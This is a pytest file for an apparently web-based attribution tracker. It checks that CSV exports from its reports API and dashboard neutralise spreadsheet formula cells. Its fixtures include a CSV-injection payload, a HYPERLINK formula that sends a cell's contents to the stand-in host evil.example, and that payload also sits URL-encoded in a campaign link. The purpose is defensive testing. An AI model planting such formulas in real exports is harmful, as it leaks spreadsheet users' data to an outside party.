"""Every CSV export (the reports API, a lead's journey, the dashboard's downloads) neutralises
cells a spreadsheet would run as formulas: UTM values, CRM owners and emails arrive from
anyone who can craft a link or a form."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from tests.api.test_dashboard import log_in, make_user
from tests.api.test_leads import api
from tests.api.test_reports import days_ago, deal, identified, pageview
from tests.factories import SiteMaker, drain_queue
from tracker.csv_export import FORMULA_PREFIXES
from tracker.dashboard.overview import REPORT_NAMES
from tracker.sites.service import CreatedSite

CAMPAIGN = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
LANDING = (
    "https://example.com/?utm_source=%2Bsource&utm_medium=-medium"
    "&utm_campaign=%3DHYPERLINK(%22http%3A%2F%2Fevil.example%2F%3F%22%26A1%2C%22Click%22)"
    "&utm_term=%40SUM(1%2B1)"
)
OWNER = "@owner"
# A site's own channel rule names the channel: text from whoever configures the site.
CHANNEL = "-Partners"
EMAIL = "=ada@example.com"
# endpoint → a neutralised cell it must contain (None: the report holds no text from input).
API_EXPORTS = {
    "/api/v1/reports/revenue?format=csv": "'" + CHANNEL,
    "/api/v1/reports/revenue?format=csv&group_by=campaign": "'" + CAMPAIGN,
    "/api/v1/reports/revenue?format=csv&group_by=source": "'+source",
    "/api/v1/reports/revenue?format=csv&group_by=medium": "'-medium",
    "/api/v1/reports/revenue?format=csv&group_by=keyword": "'@SUM(1+1)",
    "/api/v1/reports/funnel?format=csv&group_by=campaign": "'" + CAMPAIGN,
    "/api/v1/reports/models?format=csv&group_by=campaign": "'" + CAMPAIGN,
    "/api/v1/reports/win-rates?format=csv&group_by=owner": "'" + OWNER,
    "/api/v1/reports/trend?format=csv": None,
    "/api/v1/reports/leads?format=csv": "'" + EMAIL,
    "/api/v1/reports/paths?format=csv": "'" + CHANNEL,
}
DASHBOARD_EXPORTS = {
    "/dashboard/export/revenue.csv": "'" + CHANNEL,
    "/dashboard/export/revenue.csv?channel=-Partners": "'+source",
    "/dashboard/export/funnel.csv": "'" + CHANNEL,
    "/dashboard/export/models.csv": "'" + CHANNEL,
    "/dashboard/export/trend.csv": None,
    "/dashboard/leads.csv": "'" + EMAIL,
}


@pytest.fixture
def site(client: FlaskClient, sites: SiteMaker, db_session: Session) -> CreatedSite:
    site = sites.make(channel_rules=[{"channel": CHANNEL, "medium": "-medium"}])
    pageview(client, site, "visitor.ada.2", LANDING, 2)
    assert identified(client, site, "visitor.ada.2", EMAIL, 2)
    deal(db_session, site.site.id, "D1", 2, status="open", currency="USD", amount="100",
         owner=OWNER, created_at=days_ago(2), contact_email=EMAIL)
    deal(db_session, site.site.id, "D1", 1, status="won", closed_at=days_ago(1))
    drain_queue(client.application)
    return site


def test_the_tables_name_every_csv_endpoint(app: Flask) -> None:
    """A new CSV endpoint (a report, a dashboard download) joins the tables above."""
    reports = {rule.rule.rsplit("/", 1)[1] for rule in app.url_map.iter_rules()
               if rule.rule.startswith("/api/v1/reports/") and "<" not in rule.rule}
    downloads = {rule.rule for rule in app.url_map.iter_rules()
                 if rule.rule.startswith("/dashboard") and rule.rule.endswith(".csv")}
    tested = {path.split("?")[0] for path in [*API_EXPORTS, *DASHBOARD_EXPORTS]}

    # calls: a report of its own (tests/api/test_calls.py), not offered as CSV
    assert {f"/api/v1/reports/{name}" for name in reports - {"calls"}} <= tested
    assert {f"/dashboard/export/{name}.csv" for name in REPORT_NAMES} <= tested
    assert downloads - {"/dashboard/export/<report>.csv"} <= tested


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(text: str, expected: str | None) -> None:
    cells = _cells(text)
    assert len(cells) > 1
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
    if expected is not None:
        assert expected in cells


@pytest.mark.parametrize(("path", "expected"), API_EXPORTS.items(), ids=list(API_EXPORTS))
def test_every_report_csv_neutralises_formula_cells(
    client: FlaskClient, site: CreatedSite, path: str, expected: str | None
) -> None:
    response = api(client, site, "GET", path)

    assert response.status_code == 200, response.get_data(as_text=True)
    _assert_neutralised(response.get_data(as_text=True), expected)


def test_the_journey_csv_neutralises_formula_cells(client: FlaskClient, site: CreatedSite
                                                    ) -> None:
    leads = api(client, site, "GET", "/api/v1/leads").get_json()["leads"]

    response = api(client, site, "GET",
                   f"/api/v1/reports/leads/{leads[0]['id']}/journey?format=csv")

    assert response.status_code == 200, response.get_data(as_text=True)
    _assert_neutralised(response.get_data(as_text=True), "'" + CHANNEL)


@pytest.mark.parametrize(("path", "expected"), DASHBOARD_EXPORTS.items(),
                         ids=list(DASHBOARD_EXPORTS))
def test_every_dashboard_download_neutralises_formula_cells(
    app: Flask, site: CreatedSite, db_session: Session, path: str, expected: str | None
) -> None:
    make_user(db_session, "marketer@example.com", site.site.id)
    browser = app.test_client()
    log_in(browser, "marketer@example.com")

    response = browser.get(f"{path}{'&' if '?' in path else '?'}site={site.site.id}")

    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    _assert_neutralised(response.get_data(as_text=True), expected)
